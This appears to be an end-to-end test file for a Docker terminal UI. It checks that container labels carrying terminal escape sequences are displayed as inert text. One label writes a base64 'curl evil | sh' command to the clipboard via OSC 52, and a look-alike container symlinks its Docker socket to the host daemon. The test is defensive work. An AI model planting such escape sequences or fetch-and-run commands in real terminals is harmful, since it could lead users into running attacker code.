import {mkdtempSync, readFileSync, rmSync} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import type {DaemonClient} from '../../source/daemon/client.js';
import {
	e2eSkipped,
	labClient,
	labHost,
	labLogTail,
	labSocketPath,
	offlineImages,
	removeContainers,
	runBusybox,
	startDind,
	type StartedDaemonContainer,
} from '../lab/lab.js';
import {labLabels} from '../lab/names.js';
import {glyphColumn, TmuxSession} from '../lab/tmux.js';

/**
 * What a container's owner controls reaches a real terminal only as visible text. The TUI runs
 * in tmux under `script`, which records every byte it writes; the test reads those bytes.
 */

const title = 'PWNED-TITLE';
const clipboard = Buffer.from('curl evil | sh').toString('base64');
/** Window title, clear screen and red text; and an OSC 52 write to the user's clipboard. */
const labels = {
	note: `\x1b]0;${title}\x07\x1b[2J\x1b[31mRED`,
	clip: `\x1b]52;c;${clipboard}\x07`,
};

describe.skipIf(e2eSkipped)('untrusted text and links in a real terminal', () => {
	let host: DaemonClient;
	let dind: StartedDaemonContainer;
	let session: TmuxSession;
	let directory: string;
	let raw: string;

	beforeAll(async () => {
		host = labClient();
		await removeContainers(host, ['evil-dind', 'evil-link']);
		dind = await startDind(host, 'evil-dind');
		await runBusybox(dind.client, 'evil-label', {labels});
		// A DinD look-alike whose /run/docker.sock is an absolute link to a daemon socket on the
		// host (the lab's own): resolved against the host's root, /proc/PID/root/run/docker.sock
		// would reach that daemon and show it as this container's inner daemon, or as shared.
		const link = await host.docker.createContainer({
			Image: offlineImages.busybox,
			name: 'evil-link',
			Cmd: ['sh', '-c', `mkdir -p /run && ln -s ${labSocketPath()} /run/docker.sock && exec sleep 600`],
			Labels: {...labLabels, 'io.dockerception.mode': 'dind'},
			Volumes: {'/var/lib/docker': {}},
		});
		await link.start();
		directory = mkdtempSync(join(tmpdir(), 'dcpt-raw-'));
		raw = join(directory, 'typescript');
		session = new TmuxSession(`script -q -f -e -c 'node dist/bin/cli.js' ${raw}`, {
			diagnostics: labLogTail,
			env: {DOCKER_HOST: labHost(), LANG: 'C.UTF-8'},
			columns: 160,
			rows: 40,
		});
	});

	afterAll(async () => {
		session?.kill();
		dind?.client.close();
		if (host) await removeContainers(host, ['evil-dind', 'evil-link']);
		host?.close();
		if (directory) rmSync(directory, {recursive: true, force: true});
	});

	it('a label with a title, clear-screen, colour and clipboard sequence is shown, never sent', async () => {
		await session.waitFor((screen) => glyphColumn(screen, 'evil-label') >= 0, 20_000, 'evil-label inside evil-dind');
		session.type('/evil-label');
		session.keys('Enter', 'G');
		// Shown as control pictures (cut to the column's width): what the bytes were, made inert.
		await session.waitFor((screen) => screen.includes('␛]0;PWNED-TITLE␇␛[2J'), 5000, 'the label made visible in the details');
		const screen = session.screen();
		expect(screen).toContain(`␛]52;c;${clipboard.slice(0, 8)}`);
		// The table around the labels is whole: every row of it ends in its border.
		const tableRows = screen.split('\n').filter((line) => /│ (note|clip)\s/.test(line));
		expect(tableRows).toHaveLength(2);
		expect(session.display('#{pane_title}')).not.toContain(title);

		session.keys('q');
		await session.waitFor((text) => text.includes('EXIT=0'), 5000, 'the exit');
		const bytes = readFileSync(raw, 'latin1');
		expect(bytes.length).toBeGreaterThan(1000);
		// No OSC at all (dockerception sends none of its own), no BEL, and not the label's colour.
		expect(bytes).not.toContain('\x1b]');
		expect(bytes).not.toContain('\x07');
		expect(bytes).not.toContain('\x1b[31mRED');
		expect(bytes).not.toContain(title + '\x07');
	});

	it('a link in a container to the host socket is not its inner daemon: the row says why', async () => {
		const screen = await (async () => {
			const fresh = new TmuxSession('node dist/bin/cli.js', {diagnostics: labLogTail, env: {DOCKER_HOST: labHost(), LANG: 'C.UTF-8'}, columns: 160, rows: 40});
			try {
				await fresh.waitFor((text) => /evil-link\s.*no docker CLI in container/.test(text), 20_000, 'evil-link unreachable with its reason');
				return fresh.screen();
			} finally {
				fresh.keys('q');
				fresh.kill();
			}
		})();
		const row = screen.split('\n').find((line) => line.includes('evil-link')) ?? '';
		expect(row).not.toMatch(/shares/);
	});
});
